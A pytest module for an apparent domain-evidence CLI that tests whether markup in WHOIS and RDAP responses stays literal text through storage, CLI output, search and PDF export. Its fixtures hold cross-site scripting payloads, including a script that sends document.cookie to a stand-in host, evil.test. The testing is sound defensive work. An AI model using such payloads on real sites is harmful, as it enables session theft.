"""Markup in what servers send (issue 7, part 2): a WHOIS record or an RDAP document whose
values hold `<img src=x onerror=alert(1)>` or `<script>` is evidence, and stays literal
text all the way: through the parsers into the store, out of the command line in text and
JSON, and into the PDF case file, where pdftotext finds the very characters."""

from __future__ import annotations

import json
import shutil
import subprocess

import pytest

from tests.conftest import FIXTURES, CliRunner

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = '<script>alert("registrar")</script>'
ORG = "Shop & Co <b>Ltd</b>"
RDAP_NAME = "<script>document.location='http://evil.test/'+document.cookie</script>"


def _whois_record() -> bytes:
    text = (FIXTURES / "whois" / "soundsbox_test_registrar.txt").read_text(encoding="utf-8")
    text = text.replace("Registrant Name: Pedro Kresker", f"Registrant Name: {IMG}")
    text = text.replace("Registrar: Vienna Domains GmbH", f"Registrar: {SCRIPT}")
    text = text.replace("Registrant Organization: \n", f"Registrant Organization: {ORG}\n")
    return text.encode("utf-8")


def _rdap_document() -> bytes:
    doc = json.loads((FIXTURES / "rdap" / "domain-soundsbox.test-registrar.json").read_bytes())
    for entity in doc["entities"]:
        if "registrant" in entity.get("roles", []):
            for prop in entity["vcardArray"][1]:
                if prop[0] == "fn":
                    prop[3] = RDAP_NAME
    return json.dumps(doc).encode("utf-8")


@pytest.fixture(scope="module")
def hostile_case(tmp_path_factory):
    """Case 1 with a hostile WHOIS record and RDAP document imported through the CLI
    (made once for the module; the tests only read it)."""
    tmp_path = tmp_path_factory.mktemp("hostile-responses")
    run_cli = CliRunner(tmp_path, tmp_path / "store.sqlite")
    whois, rdap = tmp_path / "record.txt", tmp_path / "document.json"
    whois.write_bytes(_whois_record())
    rdap.write_bytes(_rdap_document())
    assert run_cli("case", "new", "Soundsbox <i>test</i>").code == 0
    for kind, path in (("whois", whois), ("rdap", rdap)):
        result = run_cli(
            "evidence", "import", "--case", "1", "--kind", kind, "--domain", "soundsbox.test",
            "--captured-at", "2009-11-02", str(path),
        )  # fmt: skip
        assert result.code == 0, result
    return run_cli


def test_markup_from_servers_is_stored_and_printed_as_the_literal_text(hostile_case):
    run_cli = hostile_case
    shown = run_cli("case", "show", "1", json=True)
    values = {entity["value"] for entity in shown.data["entities"]}
    assert {IMG, SCRIPT, ORG, RDAP_NAME} <= values
    text = run_cli("case", "show", "1").stdout
    for value in (IMG, SCRIPT, ORG, RDAP_NAME):
        assert value in text
    found = run_cli("search", "onerror", json=True)
    assert any(IMG in (hit["title"] or "") for hit in found.data), found.data


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils' pdftotext is needed")
def test_markup_from_servers_is_printed_literally_in_the_pdf_case_file(hostile_case, tmp_path):
    run_cli = hostile_case
    pdf = tmp_path / "case.pdf"
    result = run_cli("export", "--case", "1", "--pdf", str(pdf), timeout=180)
    assert result.code == 0, result
    text = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", "-layout", str(pdf), "-"], capture_output=True, check=True
    ).stdout.decode("utf-8")
    flat = " ".join(text.split())  # a long value may wrap; compare without line breaks
    for value in (IMG, SCRIPT, ORG, "Soundsbox <i>test</i>"):
        assert value in flat, value
    # The RDAP name is long enough to wrap mid-word; its parts must still be literal.
    assert "<script>document.location=" in flat and "document.cookie</script>" in flat
    # And the raw evidence in the appendix shows the record exactly as received.
    assert f"Registrant Name: {IMG}" in flat
